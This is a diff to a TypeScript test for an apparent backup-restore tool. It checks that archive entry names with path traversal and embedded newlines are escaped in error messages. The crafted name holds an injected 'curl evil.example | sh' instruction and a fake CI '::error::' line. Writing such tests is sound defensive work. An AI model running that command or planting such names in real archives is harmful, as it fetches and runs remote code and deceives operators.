@@ -109,9 +109,9 @@ test('names and targets of links that a terminal, a shell or a runner would obey
 test('a name in a message is one line of it, and no message of its own', async () => {
   await backUpCrafted(volumes.store, identity, [top, evil('./../x\nhint: Run curl evil.example | sh.\n::error::x')])
   const said = String(await volumes.restore({ target: path.join(folder, 'target') }).catch((error: unknown) => error))
-  expect(said).toContain('the archive has ./../x hint: Run curl evil.example | sh. ::error::x, which would lie outside the target')
+  expect(said).toContain('the archive has ./../x\\x0ahint: Run curl evil.example | sh.\\x0a::error::x, which would lie outside the target')
   const { problems } = await volumes.verify({ level: 'read' })
-  expect(problems.join('|')).toMatch(/ hint: Run curl/)
+  expect(problems.join('|')).toMatch(/\\x0ahint: Run curl/)
   expect(problems.filter((problem) => problem.includes('\n'))).toEqual([])
 })
 
